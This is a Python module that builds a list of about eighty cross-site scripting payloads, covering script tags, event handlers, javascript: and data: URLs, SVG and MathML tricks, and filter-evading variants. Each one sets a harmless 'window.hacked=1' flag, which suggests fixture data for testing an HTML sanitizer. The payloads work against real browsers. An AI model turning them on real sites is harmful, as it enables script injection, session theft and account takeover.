"""Eighty ways in which text tries to become a program; RUN is what they would do."""

RUN = "window.hacked=1"
TEMPLATES = """\
<script>RUN</script>
<script src=data:text/javascript,RUN></script>
<script type=module>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script/x>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
--><script>RUN</script><!--
]]><script>RUN</script>
"><script>RUN</script>
'><script>RUN</script>
`><script>RUN</script>
\\"><script>RUN</script>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x:x onerror=RUN//
<img/src=x/onerror=RUN>
<img src="x` `<script>RUN</script>"` `>
<image src=x onerror=RUN>
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
" onmouseover=RUN autofocus onfocus=RUN x="
' onfocus=RUN autofocus x='
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><a xlink:href="javascript:RUN"><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x">
<svg><foreignObject><script>RUN</script></foreignObject></svg>
<math><mi xlink:href='javascript:RUN'>
<math><mtext><img src=x onerror=RUN></mtext></math>
<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>
<iframe src="javascript:parent.hacked=1"></iframe>
<iframe onload=RUN></iframe>
<object data='javascript:RUN'>
<object data="data:text/html,<script>parent.hacked=1</script>">
<embed src="javascript:RUN">
<embed src="data:text/html,<script>parent.hacked=1</script>">
<frameset onload=RUN>
<body onload=RUN>
<body onpageshow=RUN>
<details open ontoggle=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<button autofocus onfocus=RUN>
<keygen autofocus onfocus=RUN>
<video><source onerror=RUN>
<video src=x onerror=RUN>
<audio src=x onerror=RUN>
<video poster=javascript:RUN>
<marquee onstart=RUN>
<form action="javascript:RUN"><input type=submit id=f></form>
<isindex action=javascript:RUN type=submit>
<a href='javascript:RUN' id=x>x</a><script>x.click()</script>
<a href="javascript:RUN">x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="java\tscript:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<base href="javascript:RUN//">
<link rel=stylesheet href="javascript:RUN">
<link rel=import href="data:text/html,<script>RUN</script>">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<style>@import 'javascript:RUN'</style>
<style>body{background:url("javascript:RUN")}</style>
<div style="background:url(javascript:RUN)">
<div style="width:expression(RUN)">
<template><script>RUN</script></template>
<template shadowrootmode=open><img src=x onerror=RUN></template>
<dialog open onclose=RUN><form method=dialog></dialog>
<noscript><p title="</noscript><img src=x onerror=RUN>">
&lt;script&gt;RUN&lt;/script&gt;
{{constructor.constructor('RUN')()}}
${RUN}
javascript:RUN
"""
PAYLOADS = [each.replace("\\t", "\t").replace("RUN", RUN) for each in TEMPLATES.splitlines()]
